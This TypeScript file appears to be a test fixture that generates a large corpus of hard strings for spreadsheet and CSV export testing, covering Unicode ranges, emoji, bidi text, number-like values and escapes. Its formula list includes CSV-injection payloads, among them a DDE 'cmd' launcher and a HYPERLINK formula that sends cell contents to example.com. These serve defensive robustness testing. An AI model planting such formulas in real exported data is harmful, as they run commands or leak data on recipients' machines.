// More than ten thousand texts that break spreadsheets, the same each time: what strangers write in chats, every character
// of the basic plane, numbers that are none, formulas in every spelling, escapes that are none, and mixtures of it all.
import * as fc from "fast-check"
import { hostileText, hostileTexts } from "./hostile.ts"

const range = (from: number, to: number) => Array.from({ length: to - from }, (_, index) => from + index)

const isSurrogate = (code: number) => code >= 0xd800 && code <= 0xdfff

/** All of the basic plane, sixteen characters a text; NUL is elsewhere. */
const basicPlane = range(0, 0x1000).flatMap((row) => {
  const codes = range(row * 16, row * 16 + 16).filter((code) => code > 0 && !isSurrogate(code))
  return codes.length === 0 ? [] : [`${row.toString(16)}: ${String.fromCharCode(...codes)}.`]
})

const starts = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " =", "\n=", "'="]
const calls = [
  "1+1",
  "SUM(A1:A9)",
  'HYPERLINK("https://example.com/?q="&A1;"click")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("https://example.com")',
  "A1",
  "R1C1",
  "#REF!",
  "{1;2}",
  "79001234567",
  "@SUM(1)",
  ""
]
const formulas = starts.flatMap((start) => calls.map((call) => start + call))

/** So many digits, others for each seed. */
const digits = (seed: number, length: number) => {
  let state = seed + 1
  return range(0, length)
    .map(() => {
      state = (state * 48_271) % 2_147_483_647
      return Math.floor(state / 65_536) % 10
    })
    .join("")
}

const numbers = range(1, 41).flatMap((length) =>
  range(0, 20).flatMap((seed) => [
    digits(seed, length),
    `0${digits(seed, length)}`,
    `-${digits(seed, length)}`
  ])
)
const phones = range(0, 600).map((seed) => `+7${digits(seed, 10)}`)
const likeValues = range(0, 60).flatMap((seed) => [
  `${1 + (seed % 28)}.${1 + (seed % 12)}.20${10 + (seed % 20)}`,
  `20${10 + (seed % 20)}-0${1 + (seed % 9)}-1${seed % 10}T0${seed % 10}:15:00Z`,
  `${seed}:30`,
  `${seed}%`,
  `${seed},5`,
  `$${seed}.00`,
  `${seed}e${seed}`,
  `${seed}/12`,
  `0x${seed}F`,
  `${seed} 000`,
  ["TRUE", "FALSE", "ИСТИНА", "#N/A", "#ДЕЛ/0!", "NULL", "nan", "-Inf"][seed % 8] ?? ""
])

const letters = range(0, 26).map((index) => String.fromCodePoint(0x1f1e6 + index))
const flags = letters.flatMap((first) => letters.map((second) => first + second))
const people = ["👩", "👨", "🧑", "👧", "👦", "👋", "👍", "🤦"]
const tones = ["", "🏻", "🏼", "🏽", "🏾", "🏿"]
const joined = ["", "\u200D💻", "\u200D❤️\u200D💋\u200D👨", "\u200D👩\u200D👧\u200D👦", "\u200D♂️"]
const emoji = [
  ...flags,
  ...people.flatMap((person) => tones.flatMap((tone) => joined.map((tail) => person + tone + tail))),
  ..."0123456789#*".split("").map((key) => `${key}\uFE0F\u20E3`),
  "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}"
]

const rightToLeft = range(0, 100).flatMap((seed) => [
  `${seed} مرحبا بالعالم ${digits(seed, 5)}`,
  `\u202Eשלום ${seed}\u202C (${seed})`,
  `\u2067${seed}\u2069 \u200F${digits(seed, 3)}\u200E`
])

const breaks = ["\n", "\r", "\r\n", "\n\n", "\u2028", "\u2029", "\u0085", "\v", "\f", "\t"]
const lines = breaks.flatMap((each) => [`a${each}b`, `${each}b`, `a${each}`, each, `"${each};${each},"`])

const hex = (code: number) => code.toString(16).padStart(4, "0")
const escapes = range(0, 500).flatMap((seed) => {
  const code = (seed * 131) % 0x10000
  const short = code.toString(16)
  return [
    `_x${hex(code).toUpperCase()}_`,
    `_x${hex(code)}_tail`,
    `_x005F_x${hex(code)}_`,
    `a_x${short}_short of it`,
    `a_x00${(code % 64).toString(16)}_shorter`
  ]
})

const mixtures = fc.sample(hostileText, { numRuns: 2500, seed: 20_261_123 })

/** Well-formed texts without NUL, which DuckDB's text can hold but no CSV. */
export const corpus: ReadonlyArray<string> = [
  ...new Set(
    [
      ...hostileTexts,
      ...basicPlane,
      ...formulas,
      ...numbers,
      ...phones,
      ...likeValues,
      ...emoji,
      ...rightToLeft,
      ...lines,
      ...escapes,
      ...mixtures
    ].map((text) => text.replaceAll("\0", "").toWellFormed())
  )
]

/** Whether a text has no character that XML 1.0 or a line of CSV lacks, so that any reader can show it as it is. */
export const isShowable = (text: string) => !/[\p{Cc}\u{FFFE}\u{FFFF}]/u.test(text.replaceAll(/[\t\n]/g, ""))
